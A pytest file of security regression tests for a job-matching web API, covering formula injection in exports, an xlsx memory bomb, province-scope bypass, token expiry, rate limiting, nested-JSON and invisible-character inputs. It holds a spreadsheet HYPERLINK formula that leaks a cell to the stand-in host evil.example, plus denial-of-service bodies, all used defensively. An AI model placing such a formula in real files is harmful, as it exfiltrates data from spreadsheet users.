"""The holes an outside attacker found (issue 10), one test per defect, on both backends.

Each test failed on main before the fix; the closing note of issue 10 lists which.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import logging
import time

import openpyxl
import pytest
import sqlalchemy as sa

from api import create_app, jobs
from api.auth import create_token
from api.exports import table_response
from api.extensions import db
from api.models import AccessLog, AllocationPair, AllocationRun, ApiToken, Job, Referral, Worker
from matcher import clock
from tests import factories, xlsx_files
from tests.api.conftest import make_app
from tests.db import ON_POSTGRES

HA_NOI_WARD = "00004"  # Phường Ba Đình, province 01
#: OWASP's CSV-injection list: a cell starting with one of these is run as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Bình Minh")'


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _cells_of_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _live_formulas(data: bytes) -> list[str]:
    """Cells Excel would evaluate, on any sheet: typed as formulas, or text starting with a
    trigger."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS))
    ]


# ----- 1. formula injection ------------------------------------------------------------------


def _round_for(
    world: factories.World, *, scope: str | None = None, worker: Worker | None = None
) -> AllocationRun:
    """A finished round proposing ``worker`` (the plain one by default) for the other
    enterprise's commitment."""
    run = AllocationRun(
        policy="max_hires", params={}, status="done", progress=1.0, province_scope=scope
    )
    db.session.add(run)
    db.session.flush()
    db.session.add(
        AllocationPair(
            run_id=run.id, worker_id=(worker or world.worker).id,
            commitment_id=world.other_commitment.id, probability=0.4, distance_km=2.0,
        )
    )  # fmt: skip
    db.session.commit()
    return run


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_allocation_export_writes_no_live_formula(client, world, auth, fmt):
    world.other_enterprise.name = EVIL_NAME
    world.worker.external_id = "+84912345678"
    db.session.commit()
    run = _round_for(world)

    response = client.get(
        f"/api/v1/allocations/{run.id}/export?format={fmt}", headers=auth("caseworker")
    )

    assert response.status_code == 200
    if fmt == "csv":
        cells = _cells_of_csv(response.get_data(as_text=True))
        assert "'" + EVIL_NAME in cells and "'+84912345678" in cells
        assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    else:
        assert _live_formulas(response.data) == []
        values = [
            c.value
            for sheet in openpyxl.load_workbook(io.BytesIO(response.data)).worksheets
            for r in sheet.iter_rows()
            for c in r
        ]
        assert "'" + EVIL_NAME in values


def test_export_writer_neutralises_every_trigger_and_keeps_numbers():
    texts = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Bình Minh", "a=b"]
    data = table_response(["tên", "số"], [[t, -5] for t in texts], "x", "xlsx").data

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    # (openpyxl writes through lxml, which keeps a carriage return as _x000D_.)
    assert [r[0][:2] for r in rows[:6]] == ["'=", "'+", "'-", "'@", "'\t", "'\r"]
    assert [r[0] for r in rows[6:]] == ["Bình Minh", "a=b"]
    assert all(r[1] == -5 for r in rows)  # a negative number is a number, not text
    assert _live_formulas(data) == []


def test_planning_exports_use_the_one_writer_with_provider_names(client, world, auth):
    world.course.provider = "@Trung tâm GDNN"
    world.course.name = "-May công nghiệp"
    db.session.commit()

    url = "/api/v1/planning/placement-results?by=provider&format={}"
    queued = client.get(url.format("csv"), headers=auth("planner"))
    assert queued.status_code == 202  # nothing stored yet: the refresh, run here
    jobs.execute(queued.get_json()["id"])
    for fmt in ("csv", "xlsx"):
        response = client.get(url.format(fmt), headers=auth("planner"))
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        if fmt == "csv":
            cells = _cells_of_csv(response.get_data(as_text=True))
            assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
        else:
            assert _live_formulas(response.data) == []


# ----- 2. the .xlsx memory bomb -------------------------------------------------------------


def test_padded_xlsx_upload_is_read_by_its_cells_not_its_dimension(client, world, auth):
    files = {"file": (io.BytesIO(xlsx_files.padded_rows(8000)), "workers.xlsx")}

    response = client.post("/api/v1/imports/workers", data=files, headers=auth("caseworker"))

    report = response.get_json()
    assert report["total_rows"] == 8000
    # The header lacks the required columns: the file is refused as a whole, nothing written.
    assert report["written"] is False or report["created"] == 0
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Worker)) == 2


def test_upload_with_too_wide_header_is_refused_naming_the_limit(client, world, auth):
    files = {"file": (io.BytesIO(xlsx_files.wide_header(500)), "workers.xlsx")}

    response = client.post("/api/v1/imports/workers", data=files, headers=auth("caseworker"))

    assert response.status_code == 422
    assert "100" in response.get_json()["detail"] and "columns" in response.get_json()["detail"]


# ----- 3. and 4. province scope and erasure through allocation rounds ------------------------


@pytest.fixture
def province_token(world) -> str:
    clear, _ = create_token("caseworker", province_code="33", label="Hưng Yên")
    db.session.commit()
    return clear


def test_scoped_caseworker_cannot_allocate_for_another_province(client, world, province_token):
    response = client.post(
        "/api/v1/allocations", json={"province_code": "01"}, headers=bearer(province_token)
    )

    assert response.status_code == 403
    assert "33" in response.get_json()["detail"]
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AllocationRun)) == 1


def test_scoped_round_draws_its_population_from_the_scope_only(client, world, province_token):
    outside = factories.worker(ward_code=HA_NOI_WARD, trades=["garment"])
    db.session.commit()
    outside_id = outside.id

    response = client.post("/api/v1/allocations", json={}, headers=bearer(province_token))

    assert response.status_code == 202, response.get_json()
    queued = response.get_json()
    assert queued["params"]["province_code"] == "33" and queued["status"] == "running"
    assert response.headers["Location"] == f"/api/v1/allocations/{queued['id']}"
    jobs.execute(queued["job_id"])  # what a consumer does with the queued job
    run = client.get(response.headers["Location"], headers=bearer(province_token)).get_json()
    assert run["status"] == "done" and run["pairs"], run
    assert outside_id not in {p["worker_id"] for p in run["pairs"]}
    assert db.session.get(AllocationRun, run["id"]).province_scope == "33"
    assert db.session.get(Job, run["job_id"]).status == "done"


def test_round_outside_scope_cannot_be_read_exported_or_confirmed(client, world, province_token):
    national = _round_for(world, scope=None)
    url = f"/api/v1/allocations/{national.id}"

    assert client.get(url, headers=bearer(province_token)).status_code == 404
    assert client.get(url + "/export", headers=bearer(province_token)).status_code == 404
    confirm = client.post(url + "/confirm", json={}, headers=bearer(province_token))
    assert confirm.status_code == 404
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Referral)) == 1


def test_confirm_rechecks_scope_of_each_pair(client, world, province_token):
    run = _round_for(world, scope="33")
    moved = world.worker
    moved.ward_code, moved.province_code = HA_NOI_WARD, "01"  # moved away since the round
    db.session.commit()

    body = client.post(
        f"/api/v1/allocations/{run.id}/confirm", json={}, headers=bearer(province_token)
    ).get_json()

    assert body["created"] == 0
    assert "not found" in body["skipped"][0]["reason"]
    assert (
        client.get(f"/api/v1/workers/{moved.id}", headers=bearer(province_token)).status_code == 404
    )


def _confirm_and_refer(client, auth, run, worker, commitment):
    """Confirm the round, and refer the same pair directly: the one rule answers both."""
    body = client.post(
        f"/api/v1/allocations/{run.id}/confirm", json={}, headers=auth("caseworker")
    ).get_json()
    direct = client.post(
        "/api/v1/referrals",
        json={"worker_id": worker.id, "commitment_id": commitment.id},
        headers=auth("caseworker"),
    )
    return body, direct


def test_confirm_refuses_an_erased_worker_like_post_referrals(client, world, auth):
    run = _round_for(world)
    assert (
        client.delete(f"/api/v1/workers/{world.worker.id}", headers=auth("caseworker")).status_code
        == 204
    )

    body, direct = _confirm_and_refer(client, auth, run, world.worker, world.other_commitment)

    assert body["created"] == 0 and "erasure" in body["skipped"][0]["reason"]
    assert direct.status_code == 409 and "erasure" in direct.get_json()["detail"]


def test_confirm_and_post_referrals_refuse_a_worker_in_a_job(client, world, auth):
    world.referral.status, world.referral.hired_on = "hired", clock.today()
    db.session.commit()
    run = _round_for(world, worker=world.referred_worker)

    body, direct = _confirm_and_refer(
        client, auth, run, world.referred_worker, world.other_commitment
    )

    assert body["created"] == 0 and "in a job" in body["skipped"][0]["reason"]
    assert direct.status_code == 409 and "in a job" in direct.get_json()["detail"]


# ----- 5. tokens expire, bad tokens are limited ---------------------------------------------


def test_new_token_expires_after_the_default_lifetime_and_records_its_use(client, world):
    clear, token = create_token("planner", label="kế hoạch")
    db.session.commit()
    assert token.expires_at == token.created_at + dt.timedelta(days=90)
    assert token.last_used_at is None

    assert client.get("/api/v1/taxonomy/trades", headers=bearer(clear)).status_code == 200
    client.get("/api/v1/planning/series", headers=bearer(clear))

    db.session.expire_all()
    assert db.session.get(ApiToken, token.id).last_used_at is not None


def test_expired_token_is_refused_naming_the_day(client, world):
    clear, token = create_token("caseworker", label="old")
    token.expires_at = clock.now() - dt.timedelta(minutes=1)
    db.session.commit()

    response = client.get("/api/v1/workers", headers=bearer(clear))

    assert response.status_code == 401
    assert "expired" in response.get_json()["detail"]


def test_token_create_command_takes_an_expiry(app, world):
    result = app.test_cli_runner().invoke(
        args=["token", "create", "--role", "planner", "--label", "ngắn", "--expires", "7d"]
    )
    assert result.exit_code == 0, result.output
    token = db.session.scalar(sa.select(ApiToken).where(ApiToken.label == "ngắn"))
    assert token.expires_at - token.created_at == dt.timedelta(days=7)

    bad = app.test_cli_runner().invoke(
        args=["token", "create", "--role", "planner", "--expires", "soon"]
    )
    assert bad.exit_code != 0 and "--expires" in bad.output


def test_admin_token_api_shows_expiry_and_takes_a_lifetime(client, world, auth):
    response = client.post(
        "/api/v1/tokens", json={"role": "planner", "expires_in_days": 30}, headers=auth("admin")
    )

    assert response.status_code == 201
    body = response.get_json()
    created = dt.datetime.fromisoformat(body["created_at"])
    assert dt.datetime.fromisoformat(body["expires_at"]) - created == dt.timedelta(days=30)
    listed = client.get("/api/v1/tokens", headers=auth("admin")).get_json()["items"]
    assert all("expires_at" in t and "last_used_at" in t for t in listed)


def test_bad_tokens_are_rate_limited_per_client_with_a_log_line(client, world, auth, caplog):
    # Running gunicorn in-process (test_cli) applies its logging config, which disables the
    # loggers that exist by then; a server builds its app after that, so re-enable here.
    logging.getLogger("api").disabled = False
    caplog.set_level(logging.WARNING, logger="api")
    answers = [
        client.get("/api/v1/workers", headers=bearer(f"cn_guess{i}")).status_code for i in range(25)
    ]

    assert answers[:20] == [401] * 20
    assert answers[20:] == [429] * 5
    limited = client.get("/api/v1/workers", headers=bearer("cn_guess-more"))
    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) >= 1
    assert "bad token from" in caplog.text and "bad-token limit" in caplog.text
    # A valid token is still served: the limit slows guessing, it locks no office out.
    assert client.get("/api/v1/workers", headers=auth("caseworker")).status_code == 200
    other = client.get(
        "/api/v1/workers", headers=bearer("cn_guess0"), environ_base={"REMOTE_ADDR": "10.0.0.9"}
    )
    assert other.status_code == 401  # another client has its own count


def test_bad_token_limit_can_be_switched_off(client, world, auth):
    from api.extensions import limiter  # RATELIMIT_ENABLED=False sets this at start-up

    limiter.enabled = False
    try:
        answers = {
            client.get("/api/v1/workers", headers=bearer(f"cn_{i}")).status_code for i in range(25)
        }
        assert answers == {401}
        assert client.get("/api/v1/workers", headers=auth("caseworker")).status_code == 200
    finally:
        limiter.enabled = True


def test_a_slow_quote_body_is_refused_quickly(client, world, auth):
    # An unterminated string of escaped quotes made the depth scan backtrack (minutes per MB).
    body = '"' + '\\"' * 150_000
    started = time.perf_counter()
    response = client.post(
        "/api/v1/workers", data=body, content_type="application/json", headers=auth("caseworker")
    )
    assert response.status_code == 400
    assert time.perf_counter() - started < 5


# ----- 6. protective headers ----------------------------------------------------------------


def test_personal_data_and_exports_are_not_cached_and_not_sniffed(client, world, auth):
    run = _round_for(world)
    for url in (
        f"/api/v1/workers/{world.worker.id}",
        f"/api/v1/allocations/{run.id}/export?format=csv",
        f"/api/v1/commitments/{world.commitment.id}/candidates",
    ):
        response = client.get(url, headers=auth("caseworker"))
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == "no-store", url
        assert response.headers["X-Content-Type-Options"] == "nosniff", url


@pytest.mark.parametrize("url", ["/", "/api/v1/docs"])
def test_pages_refuse_framing_and_inline_scripts(client, world, url):
    response = client.get(url)

    policy = response.headers["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in policy
    assert (
        "script-src 'self'" in policy
        and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    )
    assert response.headers["X-Frame-Options"] == "DENY"
    assert "<script>" not in response.get_data(as_text=True)


def test_swagger_ui_does_not_persist_the_token(client):
    with client.get("/api/v1/docs/init.js") as script:
        assert script.status_code == 200
        text = script.get_data(as_text=True)
    assert "persistAuthorization: false" in text and "persistAuthorization: true" not in text


# ----- 7. deeply nested JSON ----------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    ["[" * 100_000, '{"a":' * 50_000 + "1" + "}" * 50_000, "[" * 33 + "]" * 33],
    ids=["100k-brackets", "50k-objects", "33-levels"],
)
def test_deeply_nested_json_is_400(client, world, auth, body):
    response = client.post(
        "/api/v1/workers", data=body, content_type="application/json", headers=auth("caseworker")
    )

    assert response.status_code == 400
    assert "nested" in response.get_json()["detail"]


def test_json_body_over_a_megabyte_is_413(client, world, auth):
    body = '{"external_id": "W9", "full_name": "' + "a" * 1_100_000 + '"}'

    response = client.post(
        "/api/v1/workers", data=body, content_type="application/json", headers=auth("caseworker")
    )

    assert response.status_code == 413


# ----- 8. invisible characters --------------------------------------------------------------


def test_zero_width_external_id_cannot_make_a_look_alike(client, world, auth):
    body = {
        "external_id": world.worker.external_id + "\u200b",
        "full_name": world.worker.full_name,
        "birth_year": 1995,
        "ward_code": world.worker.ward_code,
    }

    response = client.post("/api/v1/workers", json=body, headers=auth("caseworker"))

    assert response.status_code == 422
    assert response.get_json()["errors"][0]["field"] == "external_id"
    assert "U+200B" in response.get_json()["errors"][0]["message"]


def test_zero_width_in_a_name_is_dropped(client, world, auth):
    body = {
        "external_id": "NLD-ZW",
        "full_name": "Trần\u200b Văn\u2060 Nam",
        "birth_year": 1995,
        "ward_code": "11983",
    }

    response = client.post("/api/v1/workers", json=body, headers=auth("caseworker"))

    assert response.status_code == 201, response.get_json()
    assert response.get_json()["full_name"] == "Trần Văn Nam"


# ----- 9. health, readiness, a locked or missing database -----------------------------------


def test_readyz_is_503_on_an_unmigrated_database_and_healthz_stays_alive(client):
    assert client.get("/healthz").status_code == 200
    response = client.get("/readyz")
    assert response.status_code == 503
    assert "init-db" in response.get_json()["reason"]


def test_readyz_is_ready_once_migrated(migrated_client):
    response = migrated_client.get("/readyz")

    assert response.status_code == 200
    assert response.get_json()["migration"] == "0009"


def test_database_down_answers_503_with_retry_after(tmp_path):
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "k",
            "MODELS_DIR": str(tmp_path),
            "SQLALCHEMY_DATABASE_URI": "postgresql://nobody@127.0.0.1:9/none",
            "SQLALCHEMY_ENGINE_OPTIONS": {"connect_args": {"connect_timeout": 2}},
        }
    )
    client = app.test_client()

    assert client.get("/healthz").status_code == 200
    ready = client.get("/readyz")
    assert ready.status_code == 503
    api = client.get("/api/v1/workers", headers=bearer("cn_x"))
    assert api.status_code == 503 and api.mimetype == "application/problem+json"
    assert api.headers["Retry-After"] == "5"


def _hold_write_lock(app, path):
    """Another connection holding the write lock on workers: SQLite's one writer (its file in
    WAL mode), or PostgreSQL's table lock that lets reads through."""
    if ON_POSTGRES:
        engine = sa.create_engine(
            app.config["SQLALCHEMY_DATABASE_URI"],
            connect_args=app.config["SQLALCHEMY_ENGINE_OPTIONS"]["connect_args"],
        )
        blocker = engine.connect()
        blocker.exec_driver_sql("LOCK TABLE workers IN EXCLUSIVE MODE")
    else:
        engine = sa.create_engine(f"sqlite:///{path}")
        blocker = engine.connect()
        blocker.exec_driver_sql("BEGIN IMMEDIATE")
    return engine, blocker


def test_a_write_still_locked_after_the_timeout_gets_503(tmp_path, database):
    path = tmp_path / "locked.sqlite3"
    file_db = {} if ON_POSTGRES else {"SQLALCHEMY_DATABASE_URI": f"sqlite:///{path}"}
    app = make_app(tmp_path, database, LOCK_TIMEOUT_MS=2000, **file_db)
    if not ON_POSTGRES:
        app.config["SQLALCHEMY_ENGINE_OPTIONS"] = {}
    with app.app_context():
        world = factories.build_world()
        token = world.tokens["caseworker"]
        fresh_token, _ = create_token("planner", label="never used")
        db.session.commit()
        if not ON_POSTGRES:  # WAL: readers never wait for the writer
            assert db.session.execute(sa.text("PRAGMA journal_mode")).scalar() == "wal"
        # Use the token once, so that its last-use write does not come first below.
        app.test_client().get("/api/v1/workers", headers=bearer(token))
        db.session.remove()
        engine, blocker = _hold_write_lock(app, path)
        try:
            body = {
                "external_id": "W-LOCK",
                "full_name": "A",
                "birth_year": 1995,
                "ward_code": "11983",
            }
            response = app.test_client().post("/api/v1/workers", json=body, headers=bearer(token))
            # (Reading workers writes the access log, so it is a write too.) A token's first
            # use would write its last-use time: that write is skipped, not waited for.
            started = time.perf_counter()
            reading = app.test_client().get("/api/v1/commitments", headers=bearer(fresh_token))
            read_seconds = time.perf_counter() - started
        finally:
            blocker.rollback()
            blocker.close()
            engine.dispose()
        assert response.status_code == 503, response.get_data(as_text=True)
        assert response.headers["Retry-After"] == "5"
        assert reading.status_code == 200  # reads go on beside the writer
        assert read_seconds < 1.0, read_seconds  # not the 2 s lock timeout
        count = sa.select(sa.func.count()).select_from(Worker).where(Worker.external_id == "W-LOCK")
        assert db.session.scalar(count) == 0
        db.session.remove()
        db.engine.dispose()


# ----- 11. shortlists are pseudonymous ------------------------------------------------------


def test_shortlist_names_workers_by_a_per_commitment_pseudonym(client, world, auth):
    staff = client.get(
        f"/api/v1/commitments/{world.other_commitment.id}/candidates", headers=auth("caseworker")
    )
    other = client.get(
        f"/api/v1/commitments/{world.commitment.id}/candidates", headers=auth("caseworker")
    )

    items = staff.get_json()["items"]
    assert items, staff.get_json()
    assert all("worker_external_id" not in item for item in items)
    refs = {i["worker_id"]: i["worker_ref"] for i in items}
    others = {i["worker_id"]: i["worker_ref"] for i in other.get_json()["items"]}
    shared = set(refs) & set(others)
    assert shared and all(refs[w] != others[w] for w in shared)
    assert all(world.worker.external_id not in ref for ref in refs.values())
    access = db.session.scalars(
        sa.select(AccessLog.action).where(AccessLog.action == "shortlist")
    ).all()
    assert len(access) >= len(items)


def test_enterprise_shortlist_carries_no_worker_id(client, world, auth):
    response = client.get(
        f"/api/v1/commitments/{world.commitment.id}/candidates", headers=auth("enterprise")
    )

    items = response.get_json()["items"]
    assert items and all(item["worker_id"] is None for item in items)
    assert all(item["worker_ref"].startswith("UV-") for item in items)


# ----- 10. the document says what the server refuses ----------------------------------------


@pytest.fixture
def spec(client):
    return client.get("/api/v1/openapi.json").get_json()


def _body_schema(spec, path, method):
    ref = spec["paths"][path][method]["requestBody"]["content"]["application/json"]["schema"]
    return spec["components"]["schemas"][ref["$ref"].rsplit("/", 1)[1]]


def _query_param(spec, path, name):
    params = spec["paths"][path]["get"]["parameters"]
    return next(p for p in params if p["name"] == name)["schema"]


def test_document_states_the_refusals_the_attacker_found(spec):
    import re

    q = _query_param(spec, "/api/v1/workers", "q")
    q_pattern = next(s for s in q["anyOf"] if s.get("type") == "string")["pattern"]
    assert re.match(q_pattern, "Nguyễn") and not re.match(q_pattern, "Lan\x07")

    patch = _body_schema(spec, "/api/v1/workers/{worker_id}", "patch")["properties"]
    assert "anyOf" not in patch["full_name"] and patch["full_name"]["type"] == "string"
    assert patch["birth_year"]["type"] == "integer"

    worker = _body_schema(spec, "/api/v1/workers", "post")["properties"]
    ward = next(s for s in worker["ward_code"]["anyOf"] if s.get("type") == "string")["pattern"]
    assert re.match(ward, "12073") and not re.match(ward, "00000")
    year = clock.today().year
    assert (worker["birth_year"]["minimum"], worker["birth_year"]["maximum"]) == (
        year - 80,
        year - 15,
    )

    allocation = _body_schema(spec, "/api/v1/allocations", "post")["properties"]
    assert allocation["candidates_per_worker"]["type"] == "integer"
    export = spec["paths"]["/api/v1/allocations/{run_id}/export"]["get"]["responses"]
    assert "409" in export


def test_document_patterns_are_plain_ecma_regexes(spec):
    """JSON Schema patterns are ECMA-262: a \\U escape (astral code point) would turn a
    JavaScript client's character class into a range that refuses ordinary ids."""
    import json
    import re

    text = json.dumps(spec)
    patterns = re.findall(r'"pattern": "((?:[^"\\\\]|\\\\.)*)"', text)
    assert patterns
    assert not [p for p in patterns if "\\\\U" in p]
    for pattern in patterns:
        re.compile(json.loads(f'"{pattern}"'))


def test_integral_number_is_an_integer_and_tiny_float_a_number(client, world, auth):
    # JSON Schema counts 7.0 as an integer; 5e-324 is a number the import format must read.
    run = client.post(
        "/api/v1/allocations", json={"candidates_per_worker": 7.0}, headers=auth("admin")
    )
    worker = client.post(
        "/api/v1/workers",
        json={"external_id": "W-TINY", "full_name": "Lê Hoa", "birth_year": 1995,
              "ward_code": "11983", "max_commute_km": 5e-324},
        headers=auth("caseworker"),
    )  # fmt: skip

    assert run.status_code == 202, run.get_json()  # queued: no consumer runs here
    assert run.get_json()["params"]["candidates_per_worker"] == 7
    assert worker.status_code == 201, worker.get_json()


def test_repeated_query_parameter_is_refused(client, world, auth):
    response = client.get("/api/v1/workers?q=an&q=b%07", headers=auth("caseworker"))

    assert response.status_code == 422
    assert response.get_json()["errors"] == [{"field": "q", "message": "given more than once"}]


def test_scoped_caseworker_shortlist_holds_only_its_province(client, world, auth, province_token):
    outside = factories.worker(ward_code=HA_NOI_WARD, trades=["garment"], max_commute_km=200.0)
    db.session.commit()
    url = f"/api/v1/commitments/{world.commitment.id}/candidates?limit=50"

    everyone = {i["worker_id"] for i in client.get(url, headers=auth("admin")).get_json()["items"]}
    scoped = {
        i["worker_id"] for i in client.get(url, headers=bearer(province_token)).get_json()["items"]
    }

    assert outside.id in everyone
    assert outside.id not in scoped and world.worker.id in scoped


def test_libpq_options_in_the_database_url_survive_the_lock_timeout(tmp_path):
    # The lock timeout's connect_args replaced ?options= of DATABASE_URL (a schema per
    # install, or the search path a job consumer is given), so the path was silently lost.
    app = create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "k",
            "MODELS_DIR": str(tmp_path),
            "SQLALCHEMY_DATABASE_URI": "postgresql://u@127.0.0.1/db?options=-csearch_path%3Dtenant",
        }
    )

    options = app.config["SQLALCHEMY_ENGINE_OPTIONS"]["connect_args"]["options"]
    assert options.startswith("-csearch_path=tenant") and "-c lock_timeout=" in options
    assert "options" not in app.config["SQLALCHEMY_DATABASE_URI"]


def test_one_apps_database_settings_do_not_leak_into_the_next(tmp_path):
    # configure() wrote connect_args into DefaultConfig's own dict, so a PostgreSQL app's
    # libpq options reached every SQLite app made after it (TypeError on connect).
    base = {"TESTING": True, "SECRET_KEY": "k", "MODELS_DIR": str(tmp_path)}
    create_app({**base, "SQLALCHEMY_DATABASE_URI": "postgresql://u@127.0.0.1/db"})
    later = create_app({**base, "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path}/x.sqlite3"})

    assert "options" not in later.config["SQLALCHEMY_ENGINE_OPTIONS"]["connect_args"]
    with later.app_context():
        from api.extensions import db

        assert db.session.execute(sa.text("SELECT 1")).scalar() == 1
